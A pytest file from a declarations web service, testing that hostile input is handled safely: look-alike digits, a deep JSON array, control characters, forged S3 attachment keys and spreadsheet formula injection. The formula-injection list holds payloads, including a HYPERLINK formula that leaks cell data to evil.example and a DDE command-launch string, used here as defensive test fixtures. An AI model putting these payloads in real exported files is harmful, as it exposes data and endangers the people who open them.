"""Issue 16, "Hostile input, round two": identifiers (item 2), formula injection (3), notice
attachment keys (4), 500s on bad input (5). Each test failed on the code before the fix."""
import io
import json

import boto3
import pytest

from chalicelib import identifiers as ids
from tests.helpers.in_process import make_token
from tests.helpers.declarations import BASIC
from tests.helpers.declarations import fetch as _fetch
from tests.helpers.declarations import save as _save

FULL_WIDTH = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")
ARABIC_INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")


def _id_number(serial="123", born="19900307"):
    first = "220102" + born + serial
    return first + ids.id_check_char(first)


def _new_applicant(subject):
    token = make_token({"sub": subject, "role": "applicant", "name": "测试"})
    return {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}


def _profile(number, phone="13900000009"):
    return {"name": "测试人", "id_type": "居民身份证（户口簿）", "id_number": number, "phone": phone}


@pytest.fixture
def draft(client, world):
    notice = client.get("/notices", headers=world.headers("applicant1")).json["items"][0]["notice_id"]
    d = client.post("/declarations", headers=world.headers("applicant1"), json_body={"notice_id": notice, "confirmed": True}).json
    assert _save(client, world, d, "basic", BASIC).status == 200
    return client.get(f"/declarations/{d['decl_id']}", headers=world.headers("applicant1")).json


# ---------------------------------------------------------------- item 2: one person, one account

def test_a_full_width_id_number_is_the_same_person_as_the_ascii_one(client, world):
    number = _id_number()
    first = client.put("/persons/me", headers=_new_applicant("p-hostile-1"),
                       json_body=_profile(number.translate(FULL_WIDTH)))
    assert first.status == 200 and first.json["id_number"] == number        # stored in ASCII
    second = client.put("/persons/me", headers=_new_applicant("p-hostile-2"), json_body=_profile(number))
    assert second.status == 409 and second.json["Code"] == "ID_NUMBER_TAKEN", second


def test_arabic_indic_digits_are_refused_in_id_numbers_and_phones(client, world):
    number = _id_number("456")
    resp = client.put("/persons/me", headers=_new_applicant("p-hostile-3"),
                      json_body=_profile(number[:6] + number[6:14].translate(ARABIC_INDIC) + number[14:]))
    assert resp.status == 422 and resp.json["Details"][0]["field"] == "id_number", resp
    resp = client.put("/persons/me", headers=_new_applicant("p-hostile-3"),
                      json_body=_profile(number, phone="139" + "00000009".translate(ARABIC_INDIC)))
    assert resp.status == 422 and resp.json["Details"][0]["field"] == "phone", resp
    assert client.get("/persons/me", headers=_new_applicant("p-hostile-3")).status == 404   # nothing stored


@pytest.mark.parametrize("digit", ["２", "٢"])
def test_a_credit_code_with_a_non_ascii_digit_is_never_a_500(client, world, digit):
    code = world.code("institute")
    forged = code[:5] + digit + code[6:]
    lookup = client.get(f"/units/lookup/{forged}", headers=world.headers("applicant4"))
    assert lookup.status == 422 and lookup.json["Code"] == "INVALID_CREDIT_CODE", lookup
    bind = client.post("/bindings/me", headers=world.headers("applicant4"), json_body={"credit_code": forged})
    assert 400 <= bind.status < 500 and "Code" in bind.json, bind


def test_a_full_width_credit_code_binds_the_same_unit(client, world):
    code = world.code("institute")
    resp = client.post("/bindings/me", headers=world.headers("applicant4"),
                       json_body={"credit_code": code.translate(str.maketrans(
                           "0123456789ABCDEFGHJKLMNPQRTUWXY", "０１２３４５６７８９ＡＢＣＤＥＦＧＨＪＫＬＭＮＰＱＲＴＵＷＸＹ"))})
    assert resp.status == 201, resp
    assert client.get("/bindings/me", headers=world.headers("applicant4")).json["unit_code"] == code


# ---------------------------------------------------------------- item 3: formula injection

HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&B3,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
                 "\t=1+1", "\r=1+1", "＝1+1"]


def test_spreadsheet_cells_are_strings_never_formulas(tmp_path):
    import openpyxl

    from chalicelib.documents import spreadsheets

    path = str(tmp_path / "t.xlsx")
    rows = [(text, 7, None, "正常文本") for text in HOSTILE_CELLS]
    spreadsheets.write_rows(path, "一览表", '=HYPERLINK("x")', ("序号", "姓名", "数字", "空", "文本"), rows)
    sheet = openpyxl.load_workbook(path).active
    assert sheet.cell(1, 1).data_type == "s" and sheet.cell(1, 1).value.startswith("'=")
    for r, text in enumerate(HOSTILE_CELLS, start=3):
        name = sheet.cell(r, 2)
        # (xlsx stores a carriage return as _x000D_; openpyxl hands back the escape)
        assert name.data_type == "s" and name.value == "'" + text.replace("\r", "_x000D_"), (name.value, name.data_type)
        assert sheet.cell(r, 3).value == 7 and sheet.cell(r, 3).data_type == "n"
        assert sheet.cell(r, 5).value == "正常文本"
    with open(path, "rb") as fh:
        import zipfile

        xml = zipfile.ZipFile(fh).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml              # not one formula in the sheet


def test_a_formula_typed_as_a_name_is_text_in_the_summary_table(client, world):
    import openpyxl

    evil = '=HYPERLINK("http://evil.example/?"&B3,"点击查看")'
    me = client.get("/persons/me", headers=world.headers("applicant1")).json
    renamed = client.put("/persons/me", headers=world.headers("applicant1"), json_body={
        "name": evil, "id_type": me["id_type"], "id_number": me["id_number"], "phone": me["phone"]})
    assert renamed.status == 200, renamed
    notice = client.get("/notices", headers=world.headers("applicant1")).json["items"][0]["notice_id"]
    decl = client.post("/declarations", headers=world.headers("applicant1"), json_body={"notice_id": notice, "confirmed": True}).json
    link = client.get(f"/declarations/{decl['decl_id']}/forms/summary_table", headers=world.headers("applicant1"))
    assert link.status == 200, link
    sheet = openpyxl.load_workbook(io.BytesIO(_fetch(link.json["url"]))).active
    cells = [c for row in sheet.iter_rows(min_row=3) for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value == "'" + evil for c in cells), cells


# ---------------------------------------------------------------- item 4: notice attachment keys

def test_a_notice_cannot_publish_an_object_the_server_did_not_store_for_it(client, world, aws):
    from tests.helpers import files

    s3 = boto3.client("s3", region_name="cn-north-1")
    victim = "decl/someone/id_card/abc.png"
    s3.put_object(Bucket=aws["ATTACHMENTS_BUCKET"], Key=victim, Body=files.png())
    office = world.headers("province-agent")
    notice = client.get("/admin/notices", headers=office).json["items"][0]
    full = client.get(f"/notices/{notice['notice_id']}", headers=office).json
    body = {k: full[k] for k in ("title", "matter_type", "source", "body", "opens_at", "closes_at")}
    body["year"] = int(full["year"])
    resp = client.put(f"/admin/notices/{notice['notice_id']}", headers={**office, "If-Match": str(full["version"])},
                      json_body={**body, "files": [{"name": "身份证.png", "key": victim}]})
    assert resp.status == 422 and resp.json["Code"] == "NOTICE_FILE_UNKNOWN", resp
    created = client.post("/admin/notices", headers=office, json_body={
        **body, "files": [{"name": "身份证.png", "key": victim}]})
    assert created.status == 422 and created.json["Code"] == "NOTICE_FILE_UNKNOWN", created
    after = client.get(f"/notices/{notice['notice_id']}", headers=office).json
    assert after["version"] == full["version"] and all(f["key"] != victim for f in after["files"])
    assert client.get(f"/notices/{notice['notice_id']}/files/0", headers=world.headers("applicant1")).status == 404


def test_editing_a_notice_keeps_and_may_rename_its_verified_files(client, world, aws):
    from tests.helpers import files

    office = world.headers("province-agent")
    notice = client.get("/admin/notices", headers=office).json["items"][0]
    data = files.pdf()
    slot = client.post(f"/admin/notices/{notice['notice_id']}/files", headers=office, json_body={
        "file_name": "模板.pdf", "content_type": "application/pdf", "size": len(data)}).json
    _form_post(aws, slot, data)
    done = client.post(f"/admin/notices/{notice['notice_id']}/files/{slot['file_id']}/complete", headers=office,
                       json_body={"file_name": "模板.pdf", "content_type": "application/pdf"}).json
    stored = done["files"][-1]
    body = {k: done[k] for k in ("title", "matter_type", "source", "body", "opens_at", "closes_at")}
    body["year"] = int(done["year"])
    kept = client.put(f"/admin/notices/{notice['notice_id']}", headers={**office, "If-Match": str(done["version"])},
                      json_body=body)                                  # files omitted: kept
    assert kept.status == 200 and kept.json["files"] == done["files"], kept
    renamed = client.put(f"/admin/notices/{notice['notice_id']}", headers={**office, "If-Match": str(kept.json["version"])},
                         json_body={**body, "files": [{"name": "申报表模板.pdf", "key": stored["key"]}]})
    assert renamed.status == 200 and renamed.json["files"] == [{"name": "申报表模板.pdf", "key": stored["key"]}]


def _form_post(aws, slot, data, **fields):
    """What the browser's POST of the presigned form leaves in S3 (moto does not check the policy)."""
    meta = {k.removeprefix("x-amz-meta-"): v for k, v in {**slot["upload"]["fields"], **fields}.items()
            if k.startswith("x-amz-meta-")}
    boto3.client("s3", region_name="cn-north-1").put_object(
        Bucket=aws["ATTACHMENTS_BUCKET"], Key=slot["upload"]["fields"]["key"], Body=data, Metadata=meta)


def test_a_notice_file_slot_is_completed_only_by_the_caller_it_was_given_to(client, world, aws):
    from tests.helpers import files

    notice = client.get("/admin/notices", headers=world.headers("province-agent")).json["items"][0]
    data = files.pdf()
    slot = client.post(f"/admin/notices/{notice['notice_id']}/files", headers=world.headers("province-agent"),
                       json_body={"file_name": "a.pdf", "content_type": "application/pdf", "size": len(data)}).json
    policy = json.loads(__import__("base64").b64decode(slot["upload"]["fields"]["policy"]))
    assert {"x-amz-meta-uploader": slot["upload"]["fields"]["x-amz-meta-uploader"]} in policy["conditions"]
    _form_post(aws, slot, data)
    path = f"/admin/notices/{notice['notice_id']}/files/{slot['file_id']}/complete"
    other = client.post(path, headers=world.headers("province-legal"),
                        json_body={"file_name": "a.pdf", "content_type": "application/pdf"})
    assert other.status == 404, other
    mine = client.post(path, headers=world.headers("province-agent"),
                       json_body={"file_name": "a.pdf", "content_type": "application/pdf"})
    assert mine.status == 200 and mine.json["files"][-1]["name"] == "a.pdf", mine


# ---------------------------------------------------------------- item 5: 500s on bad input

def test_a_100000_deep_json_array_is_a_400(client, world, draft):
    deep = b"[" * 100_000 + b"]" * 100_000
    resp = client.put(f"/declarations/{draft['decl_id']}/modules/achievements",
                      headers={**world.headers("applicant1"), "If-Match": str(draft["modules"]["achievements"]["version"])},
                      raw_body=b'{"content": ' + deep + b"}")
    assert resp.status == 400 and resp.json["Code"] == "BODY_TOO_DEEP", resp
    assert "嵌套" in resp.json["Message"]


@pytest.mark.parametrize("text", ["成果\ud800", "成果\udc00后", "成果\x00", "成果\x1b[31m", "成果\u202e反转"])
def test_unpaired_surrogates_and_control_characters_are_refused_and_the_form_still_renders(client, world, draft, text):
    raw = json.dumps({"content": text}).encode()              # ensure_ascii: "\ud800" travels as an escape
    resp = client.put(f"/declarations/{draft['decl_id']}/modules/achievements",
                      headers={**world.headers("applicant1"), "If-Match": str(draft["modules"]["achievements"]["version"])},
                      raw_body=raw)
    assert resp.status == 422 and "无效字符" in resp.json["Message"], resp
    after = client.get(f"/declarations/{draft['decl_id']}", headers=world.headers("applicant1")).json
    assert after["modules"]["achievements"]["version"] == draft["modules"]["achievements"]["version"]
    form = client.get(f"/declarations/{draft['decl_id']}/forms/declaration_form", headers=world.headers("applicant1"))
    assert form.status == 200, form


def test_tabs_and_line_breaks_in_free_text_are_kept(client, world, draft):
    resp = _save(client, world, draft, "achievements", "第一段\r\n\t第二段")
    assert resp.status == 200, resp


def test_a_non_json_body_is_a_415_in_the_platforms_shape(client, world, draft):
    resp = client.call("POST", "/declarations", headers={**world.headers("applicant1"), "Content-Type": "text/plain"},
                       raw_body=b"notice_id=1")
    assert resp.status == 415, resp
    assert resp.json == {"Code": "UNSUPPORTED_MEDIA_TYPE", "Message": "请求内容应为JSON（Content-Type: application/json）"}
    ok = client.call("POST", "/opinions", headers={**world.headers("province-agent"),
                                                   "Content-Type": "application/json; charset=utf-8"},
                     json_body={"text": "同意"})
    assert ok.status == 201, ok
